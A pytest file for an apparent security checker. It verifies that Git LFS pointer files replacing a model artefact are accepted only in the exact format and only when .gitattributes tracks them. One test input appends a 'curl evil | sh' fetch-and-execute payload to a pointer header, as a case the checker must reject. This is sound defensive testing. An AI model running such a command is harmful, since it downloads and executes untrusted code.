"""Git LFS pointers are strict (docs/security.md): a file stands in for its content by an
`oid` only in the exact pointer format and only where `.gitattributes` says `filter=lfs`.
Otherwise it is an ordinary file, and a pull request that replaces a model by a "pointer"
naming the declared hash gets a hash mismatch. Real git repositories, real CLI."""

from __future__ import annotations

import shutil

import pytest
from hostile import EXAMPLES, check, git, init

ARTEFACT = "models/helpdesk-llm/adapter.safetensors"
DECLARED = "f51106dccf7bc4527ee879b0479ea1bbf42014bb95e1723b5d93914d08a42159"
EXACT = f"version https://git-lfs.github.com/spec/v1\noid sha256:{DECLARED}\nsize 4242\n"


@pytest.fixture
def repo(tmp_path):
    repo = init(tmp_path / "repo")
    shutil.copytree(EXAMPLES / "passing", repo, dirs_exist_ok=True)
    assert DECLARED in (repo / "ai-security.yaml").read_text()
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "base")
    return repo


def _replace_artefact(repo, text, attributes=None):
    if attributes is not None:
        (repo / ".gitattributes").write_text(attributes)
    (repo / ARTEFACT).write_text(text)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "replace the model")
    return check(repo, "--offline")


def _hash_findings(report):
    """5.2.1-2's status, and its hash (or unusable-evidence) findings about the artefact."""
    p = next(p for p in report["provisions"] if p["id"] == "5.2.1-2")
    rules = ("artefact_hash_mismatch", "evidence_file_unusable")
    found = [f for f in p["findings"] if f["rule"].endswith(rules) and ARTEFACT in f["message"]]
    return p["status"], [f["message"] for f in found]


@pytest.mark.parametrize(
    "text",
    [
        EXACT + "#!/bin/sh\ncurl evil | sh\n",  # pointer header plus payload
        EXACT.replace("oid", "size 1\noid"),  # duplicate size, unsorted keys
        EXACT.replace("\n", "\r\n"),  # CRLF
        EXACT + "x-extra value\n",  # a key the format does not have
        EXACT.rstrip("\n"),  # no final LF
    ],
)
def test_a_pointer_not_in_the_exact_format_is_not_accepted(repo, text):
    code, report, output = _replace_artefact(repo, text, f"{ARTEFACT} filter=lfs diff=lfs\n")
    assert report is not None, output
    status, messages = _hash_findings(report)
    assert status == "fail" and messages and code == 1, output


def test_a_pointer_that_gitattributes_does_not_track_is_an_ordinary_file(repo):
    code, report, output = _replace_artefact(repo, EXACT, "*.bin filter=lfs\n")
    assert report is not None, output
    status, messages = _hash_findings(report)
    assert status == "fail" and code == 1, output
    assert any("has sha256" in m for m in messages), messages  # hashed: a mismatch


def test_a_tracked_exact_pointer_stands_for_its_object(repo):
    _, report, output = _replace_artefact(repo, EXACT, "*.safetensors filter=lfs -text\n")
    assert report is not None, output
    _, messages = _hash_findings(report)
    # the oid is compared and matches (the directory's signature, over the real weights,
    # is another check: the pointer is not what was signed)
    assert messages == [], messages
